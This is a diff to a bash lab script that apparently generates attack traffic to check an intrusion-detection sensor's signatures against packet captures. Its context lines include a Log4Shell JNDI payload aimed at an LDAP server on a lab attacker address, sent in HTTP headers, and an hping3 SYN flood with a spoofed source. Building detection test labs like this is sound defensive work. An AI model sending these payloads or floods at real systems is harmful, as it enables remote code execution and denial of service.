@@ -132,19 +132,19 @@ measure_hydra_ssh() {
 # --- 5. web exploits ----------------------------------------------------------------
 
 # web SIGNATURES CURL-ARGS...: one exploit request, and the ids of the
-# signatures (crates/vigie-sensor/data/signatures.toml) of the attacks it
-# carries, comma-separated.
+# signatures (crates/vigie-sensor/data/signatures.toml) of every attack it
+# carries, comma-separated; truth.py decides which one it is filed under.
 web() {
     local sigs=$1; shift
     lab_curl "$NS_ATT" "$@"
-    tr ',' '\n' <<<"$sigs" >>"$WORK/web_signatures.txt"
+    echo "$sigs" >>"$WORK/web_requests.txt"
     WEB_REQUESTS=$((WEB_REQUESTS + 1))
 }
 
 scenario_web_exploits() {
     local v=http://$VIC_IP jndi='${jndi:ldap://10.66.1.2:1389/a}'
     WEB_REQUESTS=0
-    : >"$WORK/web_signatures.txt"
+    : >"$WORK/web_requests.txt"
     # Log4Shell (CVE-2021-44228), as mass scanners send it.
     web web.log4shell -A "$jndi" "$v/"
     web web.log4shell -A "$BROWSER_UA" -H "X-Api-Version: $jndi" "$v/"
@@ -187,9 +187,11 @@ measure_web_exploits() {
     seen=$(count_packets "ip.src==$ATT_IP && http.request")
     expect_equal "web_exploits: requests in the capture" "$seen" "$WEB_REQUESTS"
     fact web_exploits requests "$WEB_REQUESTS"
-    sort "$WORK/web_signatures.txt" | uniq -c | while read -r n sig; do
-        fact web_exploits "sig.$sig" "$n"
-    done
+    n=0
+    while read -r sig; do
+        n=$((n + 1))
+        fact web_exploits "request.$(printf %02d "$n")" "$sig"
+    done <"$WORK/web_requests.txt"
 }
 
 # --- 6. web login brute force ---------------------------------------------------------
@@ -243,7 +245,7 @@ measure_syn_burst() {
     sent=$(sed -n 's/^\([0-9]*\) packets transmitted.*/\1/p' "$WORK/hping3.txt")
     syns=$(count_packets "ip.src==$SPOOF_IP && ip.dst==$VIC_IP && tcp.dstport==80 && tcp.flags.syn==1 && tcp.flags.ack==0")
     expect_equal "syn_burst: SYNs in the capture" "$syns" "$sent"
-    fact syn_burst packets "$syns"
+    fact syn_burst syn_packets "$syns"
     fact syn_burst duration_s "$(tshark -r "$CAPTURE_FILE" -Y "ip.src==$SPOOF_IP" -T fields -e frame.time_epoch 2>/dev/null |
         sed -n '1p;$p' | paste -sd ' ' | awk '{printf "%.2f", $2 - $1}')"
     fact syn_burst command "hping3 -n -S -p 80 -a $SPOOF_IP -i u100 -c $SYN_BURST_COUNT $VIC_IP"
